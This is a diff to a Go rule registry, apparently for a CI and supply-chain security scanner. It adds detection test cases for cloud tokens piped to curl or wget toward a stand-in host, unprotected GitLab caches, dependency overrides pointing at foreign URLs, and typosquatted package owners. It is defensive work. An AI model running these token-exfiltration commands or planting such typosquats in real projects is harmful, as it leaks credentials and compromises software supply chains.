@@ -509,6 +509,15 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/x/y/releases", 0, true},
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// A token a cloud CLI mints is a secret wherever it goes next:
+			// into a file or a variable, then sent; handed to its own
+			// registry's login it is its use.
+			{"cloudbuild.yaml", "steps:\n  - name: gcr.io/google.com/cloudsdktool/cloud-sdk\n    entrypoint: bash\n    args:\n      - -c\n      - |\n        gcloud auth application-default print-access-token > /workspace/t\n        curl -s --upload-file /workspace/t https://x.invalid/u", 8, false},
+			{"x.sh", "aws ecr get-login-password --region eu-west-1 > p.txt\ncurl -F f=@p.txt https://x.invalid/u", 2, false},
+			{"x.sh", "kubectl create token deployer --duration=24h > /tmp/k\ncurl -s --data-binary @/tmp/k https://x.invalid/k", 2, false},
+			{"x.sh", "T=$(vault token create -ttl=1h -field=token)\nwget -q --post-data=\"t=$T\" https://x.invalid/u", 2, false},
+			{"x.sh", "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 1234.dkr.ecr.eu-west-1.amazonaws.com", 0, true},
+			{"x.sh", "T=$(az account get-access-token --query accessToken -o tsv)\ncurl -H \"Authorization: Bearer $T\" https://management.azure.com/subscriptions", 0, true},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
 			// What a secret store prints is the secret: Vault, AWS, Google's
 			// and Azure's stores, Buildkite's secrets, a sops file decrypted;
@@ -1015,6 +1024,11 @@ var registry = []Rule{
 		"pip imports and runs the change's own code at install, before any test", []Case{
 			{"pyproject.toml", "[build-system]\nbackend-path = [\".\"]", 0, false},
 		}},
+	{"ci-cache-unprotected", KindRunner, Medium, "shares a cache between protected and unprotected branches",
+		"a job on any branch or merge request writes what the protected branches' jobs restore and run (GitLab's cache: unprotect: true)", []Case{
+			{".gitlab-ci.yml", "test:\n  script: npm ci && npm test\n  cache:\n    key: deps\n    paths: [node_modules/]\n    unprotect: true", 6, false},
+			{".gitlab-ci.yml", "test:\n  script: npm ci && npm test\n  cache:\n    key: deps\n    paths: [node_modules/]\n    unprotect: false", 0, true},
+		}},
 	{"git-hooks", KindScript, High, "points git at hooks the change ships",
 		"every later git command on the runner runs the change's own scripts", []Case{
 			{"x.sh", "git config core.hooksPath .githooks", 0, false},
@@ -1033,6 +1047,14 @@ var registry = []Rule{
 			// A wheel on a well-known index's own host is the registry's file.
 			{"requirements-dev.txt", "torch @ https://download.pytorch.org/whl/cpu/torch-2.3.0%2Bcpu-cp311-cp311-linux_x86_64.whl", 0, true},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
+			// Every package manager's overrides: pnpm's workspace overrides
+			// and catalogs, Pipenv's file = URL; a version, an npm: alias or
+			// a link in the tree is the registry's or the project's own.
+			{"pnpm-workspace.yaml", "packages:\n  - packages/*\noverrides:\n  \"semver@<7\": https://x.invalid/semver-7.6.3.tgz", 4, false},
+			{"Pipfile", "[packages]\nurllib3 = {file = \"https://x.invalid/urllib3-2.2.0.tar.gz\"}", 2, false},
+			{".yarnrc.yml", "npmRegistryServer: \"https://registry.yarnpkg.com\"\npackageExtensions:\n  \"foo@*\":\n    dependencies:\n      bar: \"https://x.invalid/bar.tgz\"", 5, false},
+			{".yarnrc.yml", "npmRegistryServer: \"https://npm.acme-corp.dev\"\npackageExtensions:\n  \"foo@*\":\n    dependencies:\n      bar: \"^1.2.0\"", 0, true},
+			{"pnpm-workspace.yaml", "packages:\n  - packages/*\noverrides:\n  semver: ^7.6.3\n  \"lodash@<4\": npm:lodash@4.17.21\n  foo: link:../foo\ncatalog:\n  react: ^19.0.0", 0, true},
 			// An import map sends a name to code at a URL.
 			{"deno.json", "{\n  \"imports\": {\n    \"@std/path\": \"https://modules.jsr-cdn.x.invalid/@std/path/1.0.8/mod.ts\"\n  }\n}", 3, false},
 			{"deno.json", "{\n  \"imports\": {\n    \"$std/\": \"https://deno.land/std@0.224.0/\",\n    \"x\": \"https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/mod.ts\",\n    \"preact\": \"https://esm.sh/preact@10.22.0\",\n    \"@std/assert\": \"jsr:@std/assert@^1.0.0\"\n  }\n}", 0, true},
@@ -1119,6 +1141,14 @@ var registry = []Rule{
 			// A well-known owner's name dressed as its download channel.
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo /tmp/l.tgz \"https://github.com/golangci-lint-releases/bin/releases/download/v2.1.0/lint.tgz\"\n          tar -xzf /tmp/l.tgz -C /tmp/l\n          sudo /tmp/l/install --prefix /usr/local", 7, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
+			// A well-known name spelled with a digit or a letter pair for a
+			// letter, as one word of the owner, in any reader of sources;
+			// an owner that writes digits in its own name imitates nobody.
+			{"collections/requirements.yml", "collections:\n  - name: https://github.com/ansib1e-collections/community.general.git\n    type: git", 2, false},
+			{".gitmodules", "[submodule \"vendor/sdk\"]\n\tpath = vendor/sdk\n\turl = https://github.com/rnicrosoft-labs/sdk.git", 3, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: d0cker-community/login-action@v3", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: 1password/load-secrets-action@v2\n      - uses: 8398a7/action-slack@v3\n      - uses: baptiste0928/cargo-install@v3", 0, true},
+			{"Package.swift", "let package = Package(\n  name: \"x\",\n  dependencies: [\n    .package(url: \"https://github.com/baptiste0928/swift-x.git\", from: \"1.0.0\"),\n    .package(url: \"https://github.com/m1guelpf/swift-y.git\", from: \"1.0.0\")\n  ]\n)", 0, true},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: docker/login-action@v3\n+  - uses: docker/login-actions@v3\n", 2, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-nodes@v4", 4, false},
